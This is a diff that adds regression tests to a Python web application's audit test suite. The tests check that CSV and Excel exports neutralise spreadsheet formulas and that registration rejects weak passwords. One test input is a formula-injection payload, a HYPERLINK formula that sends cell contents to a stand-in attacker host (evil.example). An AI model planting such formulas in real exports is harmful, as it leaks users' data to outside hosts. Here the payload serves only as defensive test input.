@@ -1,15 +1,29 @@
 """The second outside audit (issue 21): ids the database cannot hold, redirects out of the site after
 decoding. Each test is what a user or client saw go wrong, in the language they read (Chinese first)."""
 
+import csv
+import io
+
 import pytest
+from openpyxl import load_workbook
 from sqlmodel import select
 
 from app.deals.services import interests
+from app.platform.spreadsheets import safe_row
 from app.web.input_guards import same_site_path
-from models import NdaDocument, Notification, Role
+from models import NdaDocument, Notification, Organization, Role, User
 from tests.conftest import BACKENDS
 from tests.utils.bureau import apply, carry, create_account, create_call, create_expert
-from tests.utils.factories import PASSWORD, create_need, create_role_user, create_user, in_app
+from tests.utils.factories import (
+    PASSWORD,
+    create_achievement,
+    create_need,
+    create_role_user,
+    create_user,
+    in_app,
+    random_credit_code,
+    registration_data,
+)
 from tests.utils.ui_deals import accept, express
 from tests.utils.web import bearer, csrf_token
 
@@ -216,3 +230,132 @@ def test_a_need_with_an_accepted_nda_is_still_only_closed(client, session, enter
     assert response.status_code == 409
     assert "因此不能删除；可以将它关闭" in response.json["error"]["message"]
     assert client.get(f"/api/v1/needs/{need.id}").status_code == 200
+
+
+# --- item 6: text a spreadsheet would run as a formula is exported as text ---------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+def filed_center(session, name: str):
+    bureau = create_account(session, Role.bureau, "市工信局")
+    applicant = create_user(session, "university")
+    application = apply(session, create_call(session, bureau), applicant, center_name=name)
+    return bureau, applicant, carry(session, bureau, application, "filed").center_id
+
+
+@on_both
+def test_the_first_use_list_csv_neutralises_formulas(client, session):
+    bureau, applicant, center_id = filed_center(session, "@SUM(1+1)轻量化创新中心")
+    achievement = create_achievement(
+        session, applicant, center_id=center_id, title="+86 高强度铝合金成形工艺"
+    )
+    as_center, as_bureau = bearer(client, applicant.email, PASSWORD), bearer(client, bureau.email, PASSWORD)
+    flag = client.post(
+        f"/api/v1/bureau/centers/{center_id}/first-use-flags",
+        headers=as_center,
+        json={"achievement_id": achievement.id, "category": "new_material", "reason": FORMULA},
+    )
+    assert flag.status_code == 201, flag.json
+    review = {"recommend": True, "note": "-1 条件具备，建议推荐"}
+    assert (
+        client.post(
+            f"/api/v1/bureau/first-use-flags/{flag.json['id']}/review", headers=as_bureau, json=review
+        ).status_code
+        == 200
+    )
+    text = client.get("/api/v1/bureau/first-use-flags/recommended.csv", headers=as_bureau).get_data(
+        as_text=True
+    )
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert rows[0][0] == "序号" and rows[1][0] == "1"
+    assert rows[1][1] == "'+86 高强度铝合金成形工艺"
+    assert rows[1][3] == "'@SUM(1+1)轻量化创新中心"
+    assert rows[1][4] == "'" + FORMULA
+    assert rows[1][5] == "'-1 条件具备，建议推荐"
+
+
+@on_both
+def test_the_indicator_exports_neutralise_formulas(client, session, auth):
+    bureau, _applicant, center_id = filed_center(session, FORMULA)
+    auth.login(bureau.email)
+    query = {"year": 2026, "center_id": center_id}
+    text = client.get("/indicators.csv", query_string=query).get_data(as_text=True)
+    scope = next(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert scope[3] == "'" + FORMULA
+    sheet = load_workbook(io.BytesIO(client.get("/indicators.xlsx", query_string=query).data)).active
+    assert sheet["D1"].value == "'" + FORMULA and sheet["D1"].data_type == "s"
+    # Figures stay numbers.
+    assert all(
+        isinstance(v, int)
+        for row in sheet.iter_rows(min_row=3, min_col=2, values_only=True)
+        for v in row
+        if v is not None
+    )
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_every_formula_start_gets_a_quote(text):
+    assert safe_row([text, "安全", 3, -2, None]) == ["'" + text, "安全", 3, -2, None]
+
+
+# --- item 17: a password policy that says which rule failed ------------------------------------------------------
+
+WEAK = [
+    ("12345678", "内容过短：至少 10 个字符。"),
+    ("1234567890", "该密码属于最常见的密码之一，请换一个不易被猜到的密码。"),
+    ("Password123", "该密码属于最常见的密码之一，请换一个不易被猜到的密码。"),
+    ("li.gong.2026", "密码不能是您的邮箱地址，也不能是邮箱 @ 前面的部分。"),
+    ("Li.Gong.2026@example.cn", "密码不能是您的邮箱地址，也不能是邮箱 @ 前面的部分。"),
+]
+
+
+@on_both
+@pytest.mark.parametrize("password, message", WEAK)
+def test_registration_through_the_api_refuses_a_weak_password(client, session, password, message):
+    data = {**registration_data(), "email": "li.gong.2026@example.cn", "password": password}
+    response = client.post("/api/v1/register", json=data)
+    assert response.status_code == 422
+    assert response.json["error"]["fields"] == {"password": message}
+    assert session.exec(select(User)).all() == []
+
+
+@on_both
+@pytest.mark.parametrize("password, message", WEAK)
+def test_the_registration_page_refuses_a_weak_password(client, session, password, message):
+    form = {
+        "org_kind": "enterprise",
+        "org_name": "长春示范精密机械有限公司",
+        "credit_code": random_credit_code(),
+        "region": "220104",
+        "name": "李工",
+        "email": "li.gong.2026@example.cn",
+        "password": password,
+        "password2": password,
+        "consent": "y",
+        "csrf_token": csrf_token(client, "/auth/register"),
+    }
+    response = client.post("/auth/register", data=form)
+    assert response.status_code == 422
+    assert message in response.get_data(as_text=True)
+    assert session.exec(select(User)).all() == []
+    form["password"] = form["password2"] = "焊接-Weld-Seam-77"
+    assert client.post("/auth/register", data=form).status_code == 302
+
+
+@on_both
+def test_a_claim_refuses_a_common_password(client, session, enterprise):
+    org = session.get(Organization, enterprise.org_id)
+    claim = {
+        "credit_code": org.credit_code,
+        "org_name": "长春真正的汽车零部件有限公司",
+        "contact_name": "王经理",
+        "email": "wang@real-firm.cn",
+        "password": "qwertyuiop",
+        "evidence": "营业执照原件可供核验，法定代表人可电话确认。",
+    }
+    response = client.post("/api/v1/organization-claims", json=claim)
+    assert response.status_code == 422
+    assert response.json["error"]["fields"] == {
+        "password": "该密码属于最常见的密码之一，请换一个不易被猜到的密码。"
+    }
